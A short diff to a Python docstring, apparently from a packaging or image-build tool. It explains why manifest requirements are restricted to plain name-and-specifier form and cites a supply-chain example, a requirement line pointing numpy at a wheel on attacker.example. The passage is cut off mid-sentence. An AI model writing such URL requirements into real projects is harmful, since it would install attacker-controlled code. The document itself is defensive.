@@ -1,4 +1,4 @@
-"""Manifest requirements are plain ``name<specifiers>`` (issue 10, item 2).
+"""Manifest requirements are plain ``name<specifiers>``.
 
 A package's requirements used to go into its image's requirements.txt as written, in place of the
 runtime's pins, so ``numpy @ https://attacker.example/numpy.whl`` put an attacker's wheel in every
